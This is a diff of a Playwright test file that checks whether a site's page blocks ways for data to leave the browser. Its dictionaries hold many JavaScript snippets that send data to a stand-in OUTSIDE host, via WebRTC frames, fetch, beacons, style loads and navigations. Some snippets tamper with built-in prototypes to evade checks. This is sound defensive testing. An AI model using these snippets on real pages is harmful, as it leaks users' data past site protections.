@@ -5,9 +5,9 @@ Each is tried on a free page first, where the listener has to hear it: then sile
 
 from __future__ import annotations
 
-import json
 import re
 import select
+import shutil
 import socket
 import time
 from collections.abc import Callable, Iterator
@@ -15,17 +15,20 @@ from contextlib import ExitStack, contextmanager, suppress
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import Browser, BrowserContext, Error, Page, Playwright
+from playwright.sync_api import Browser, BrowserContext, Error, Page, Worker
 
-from tests.conftest import BROWSER_ARGUMENTS
+from tests.conftest import BROWSER_ARGUMENTS, BROWSERS
 from tests.small_site import worker_of, write_small_site
 
 LISTENS_S = 20.0  # on the free page, at most: as soon as something is heard, it is over
 SILENCE_S = 0.3  # on the site's page, at least: it is given twice the time that the free one took
 
+XHTML = "http://www.w3.org/1999/xhtml"
 RTC = """((from) => { const line = new from.RTCPeerConnection({ iceServers: [{ urls: "stun:OUTSIDE" }] });
   line.createDataChannel("x"); return line.createOffer().then((offer) => line.setLocalDescription(offer)); })"""
-FRAMED = f"(frame) => {{ document.body.append(frame); return {RTC}(frame.contentWindow ?? frames[frames.length - 1]); }}"
+FRAMED = (
+    f"(frame) => {{ document.body.append(frame); return {RTC}(frame.contentWindow ?? frames[frames.length - 1]); }}"
+)
 LINK = """((rel, more = {}) => { const link = Object.assign(document.createElement("link"), { rel, href: "http://OUTSIDE/?photo",
   ...more }); document.head.append(link); })"""
 ANCHOR = "((more) => Object.assign(document.createElement('a'), { href: 'http://OUTSIDE/?photo', ...more }).click())"
@@ -37,20 +40,23 @@ WEBRTC = {
     "WebRTC": f"{RTC}(window)",
     "WebRTC by its old name": f"{RTC}({{ RTCPeerConnection: webkitRTCPeerConnection }})",
     "WebRTC in a frame": f"({FRAMED})(document.createElement('iframe'))",
-    "WebRTC in a frame by namespace": f"({FRAMED})(document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe'))",
-    "WebRTC in a frame of another document": f"({FRAMED})(document.implementation.createHTMLDocument().createElement('iframe'))",
+    "WebRTC in a frame by namespace": f"({FRAMED})(document.createElementNS('{XHTML}', 'x:iframe'))",
+    "WebRTC in a frame of another document": f"""({FRAMED})(
+      document.implementation.createHTMLDocument().createElement("iframe"))""",
     "WebRTC in an old frame": f"({FRAMED})(document.createElement('frame'))",
     "WebRTC in an object": f"({FRAMED})(Object.assign(document.createElement('object'), {{ data: 'about:blank' }}))",
     "WebRTC in an element of its own": f"""({FRAMED})((() => {{ class Own extends HTMLIFrameElement {{}}
       customElements.define("x-own", Own, {{ extends: "iframe" }}); return new Own(); }})())""",
-    "WebRTC in a frame from markup": f"""document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>"), {RTC}(frames[0])""",
+    "WebRTC in a frame from markup": f"""document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>"),
+      {RTC}(frames[0])""",
     "WebRTC in a frame parsed": f"""({FRAMED})(document.adoptNode(
       new DOMParser().parseFromString("<iframe></iframe>", "text/html").querySelector("iframe")))""",
     "WebRTC in a frame of a fragment": f"""({FRAMED})(
       document.createRange().createContextualFragment("<iframe></iframe>").firstChild)""",
     "WebRTC in a frame by editing": f"""document.body.contentEditable = true, document.body.focus(),
       document.execCommand("insertHTML", false, "<iframe></iframe>"), {RTC}(frames[0])""",
-    "WebRTC in a frame from another page": f"""(async () => {{ const ask = new XMLHttpRequest(); ask.responseType = "document";
+    "WebRTC in a frame from another page": f"""(async () => {{
+      const ask = new XMLHttpRequest(); ask.responseType = "document";
       ask.open("GET", "framed.html"); ask.send(); await new Promise((done) => {{ ask.onload = done; }});
       return ({FRAMED})(document.adoptNode(ask.responseXML.querySelector("iframe"))); }})()""",
     "WebRTC in a frame by XSLT": f"""(() => {{ const xsl = "http://www.w3.org/1999/XSL/Transform";
@@ -58,14 +64,15 @@ WEBRTC = {
       const template = sheet.createElementNS(xsl, "xsl:template"), element = sheet.createElementNS(xsl, "xsl:element");
       root.setAttribute("version", "1.0"); root.append(template); template.setAttribute("match", "/");
       template.append(element); element.setAttribute("name", "iframe");
-      element.setAttribute("namespace", "http://www.w3.org/1999/xhtml");
+      element.setAttribute("namespace", "{XHTML}");
       const processor = new XSLTProcessor(); processor.importStylesheet(sheet);
       document.body.append(processor.transformToFragment(sheet, document));
       return {RTC}(frames[0]); }})()""",
     "WebRTC in a window": f"{RTC}(window.open(''))",
     "WebRTC in a window by the document": f"{RTC}(document.open('', 'other', ''))",
     "WebRTC in a window above others": f"documentPictureInPicture.requestWindow().then((above) => {RTC}(above))",
-    "WebRTC with changed tools": f"""(Array.prototype.includes = RegExp.prototype.exec = RegExp.prototype.test = () => null,
+    "WebRTC with changed tools": f"""(
+      Array.prototype.includes = RegExp.prototype.exec = RegExp.prototype.test = () => null,
       Object.defineProperty(HTMLIFrameElement, Symbol.hasInstance, {{ value: () => false }}),
       ({FRAMED})(document.createElement("iframe")))""",
 }
@@ -73,7 +80,8 @@ CONNECTIONS = {
     "fetch": "fetch('http://OUTSIDE/?photo', { mode: 'no-cors' })",
     "fetch that outlives the page": "fetch('http://OUTSIDE/?photo', { mode: 'no-cors', keepalive: true })",
     "fetchLater": "fetchLater('https://OUTSIDE/?photo', { activateAfter: 0 })",
-    "XMLHttpRequest": "(() => { const ask = new XMLHttpRequest(); ask.open('GET', 'http://OUTSIDE/?photo'); ask.send(); })()",
+    "XMLHttpRequest": """(() => { const ask = new XMLHttpRequest();
+      ask.open("GET", "http://OUTSIDE/?photo"); ask.send(); })()""",
     "beacon": "navigator.sendBeacon('http://OUTSIDE/', 'photo')",
     "EventSource": "new EventSource('http://OUTSIDE/?photo')",
     "WebSocket": "new WebSocket('ws://OUTSIDE/?photo')",
@@ -101,18 +109,21 @@ LOADS = {
     "stylesheet": f"{LINK}('stylesheet')",
     "picture of a style": "void (document.body.style.backgroundImage = \"url('http://OUTSIDE/?photo')\")",
     "picture of a stylesheet": f"{STYLE}(\"body {{ background: url('http://OUTSIDE/?photo') }}\")",
-    "font of a stylesheet": f"{STYLE}(\"@font-face {{ font-family: x; src: url('http://OUTSIDE/?photo') }} * {{ font-family: x }}\")",
+    "font of a stylesheet": f"""{STYLE}("@font-face {{ font-family: x; "
+      + "src: url('http://OUTSIDE/?photo') }} * {{ font-family: x }}")""",
     "font": "new FontFace('x', \"url('http://OUTSIDE/?photo')\").load()",
     "preload": f"{LINK}('preload', {{ as: 'image' }})",
     "modulepreload": f"{LINK}('modulepreload')",
     "prefetch": f"{LINK}('prefetch')",
     "icon": f"{LINK}('icon')",
-    "speculation rules": """document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules",
+    "speculation rules": """document.head.append(Object.assign(document.createElement("script"), {
+      type: "speculationrules",
       textContent: JSON.stringify({ prefetch: [{ source: "list", urls: ["http://OUTSIDE/?photo"] }] }) }))""",
 }
 NAVIGATIONS = {
     "location": "void (location = 'http://OUTSIDE/?photo')",
-    "location, with changed tools": """(Event.prototype.preventDefault = () => {}, String.prototype.startsWith = () => true,
+    "location, with changed tools": """(
+      Event.prototype.preventDefault = () => {}, String.prototype.startsWith = () => true,
       Object.defineProperty(NavigateEvent.prototype, "userInitiated", { value: true }),
       void (location = "http://OUTSIDE/?photo"))""",
     "location.replace": "location.replace('http://OUTSIDE/?photo')",
@@ -123,6 +134,9 @@ NAVIGATIONS = {
     "download": f"{ANCHOR}({{ download: 'x' }})",
     "window.open": "window.open('http://OUTSIDE/?photo')",
 }
+PASSKEY = """navigator.credentials.create({ publicKey: { rp: { name: "x", id: "NAME" }, challenge: new Uint8Array(16),
+  user: { id: new Uint8Array(4), name: "x", displayName: "x" },
+  pubKeyCredParams: [{ type: "public-key", alg: -7 }] } })"""
 CLOSED = {**WEBRTC, **CONNECTIONS, **LOADS, **NAVIGATIONS}
 
 
@@ -131,7 +145,7 @@ class Outside:
 
     def __init__(self, tcp: socket.socket, udp: socket.socket) -> None:
         self._sockets = (tcp, udp)
-        self.address = "127.0.0.1:{}".format(tcp.getsockname()[1])
+        self.address = f"127.0.0.1:{tcp.getsockname()[1]}"
 
     def hears(self) -> bool:
         """Whether anything has come, be it only a connection."""
@@ -151,7 +165,9 @@ def outside() -> Iterator[Outside]:
 def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """A page as the site has it, and one without policy and scripts."""
     folder = write_small_site(tmp_path_factory.mktemp("site"))
-    (folder / "free.html").write_text("<!doctype html><meta charset='utf-8'><title>free</title><body>", encoding="utf-8")
+    (folder / "free.html").write_text(
+        "<!doctype html><meta charset='utf-8'><title>free</title><body>", encoding="utf-8"
+    )
     (folder / "framed.html").write_text("<!doctype html><title>framed</title><iframe></iframe>", encoding="utf-8")
     return folder
 
@@ -168,16 +184,16 @@ def context(browser: Browser) -> Iterator[BrowserContext]:
     context.close()
 
 
-def heard_after_s(page: Page, script: str, within_s: float) -> float | None:
-    """Try the way out, and give the seconds until something came, or None."""
+def heard_after_s(place: Page | Worker, script: str, within_s: float, wait: Callable[[float], None]) -> float | None:
+    """Try the way out, and give the seconds until something came, or None; wait: gives the browser milliseconds."""
     with outside() as listener:
         begins = time.monotonic()
         with suppress(Error):  # it is refused, or nobody answers, or the page is gone: what counts is what is heard
-            page.evaluate(f"async () => {{ void ({script.replace('OUTSIDE', listener.address)}); }}")
+            place.evaluate(f"async () => {{ void ({script.replace('OUTSIDE', listener.address)}); }}")
         while not listener.hears():
             if time.monotonic() - begins > within_s:
                 return None
-            page.wait_for_timeout(20)
+            wait(20)
         return time.monotonic() - begins
 
 
@@ -185,8 +201,32 @@ def heard_after_s(page: Page, script: str, within_s: float) -> float | None:
 def test_a_way_out_is_closed(context: BrowserContext, http: str, way: str) -> None:
     page = context.new_page()
     page.goto(f"{http}/free.html")
-    took_s = heard_after_s(page, CLOSED[way], LISTENS_S)
+    took_s = heard_after_s(page, CLOSED[way], LISTENS_S, page.wait_for_timeout)
     assert took_s is not None, "the listener hears it where nothing is closed"
     page = context.new_page()
     page.goto(f"{http}/index.html")
-    assert heard_after_s(page, CLOSED[way], max(SILENCE_S, 2 * took_s)) is None
+    assert heard_after_s(page, CLOSED[way], max(SILENCE_S, 2 * took_s), page.wait_for_timeout) is None
+
+
+@pytest.mark.parametrize("way", ["WebRTC", "WebTransport", "WebSocketStream", "fetch", "beacon", "import"])
+def test_a_way_out_is_closed_in_the_worker(context: BrowserContext, http: str, way: str) -> None:
+    page = context.new_page()
+    page.goto(f"{http}/index.html")
+    page.evaluate("load()")
+    script = CLOSED[way].replace("window", "globalThis").replace("navigator.sendBeacon", "navigator.sendBeacon?.")
+    assert heard_after_s(worker_of(page), script, 1, page.wait_for_timeout) is None
+
+
+def test_no_name_is_looked_up_for_a_passkey(browser: Browser, http: str, tmp_path: Path) -> None:
+    """A browser asks the site that a passkey is for whether others may have it: the browser's own log shows that."""
+    log = tmp_path / "net.json"
+    installed = next(filter(None, map(shutil.which, BROWSERS)), None)
+    logged = browser.browser_type.launch(executable_path=installed, args=[*BROWSER_ARGUMENTS, f"--log-net-log={log}"])
+    for name in ("free", "index"):
+        page = logged.new_page()
+        page.goto(f"{http}/{name}.html")
+        with suppress(Error):
+            page.evaluate(PASSKEY.replace("NAME", f"photo-{name}.example"))
+    logged.close()
+    looked_up = set(re.findall(r"photo-\w+\.example", log.read_text(encoding="utf-8")))
+    assert looked_up == {"photo-free.example"}
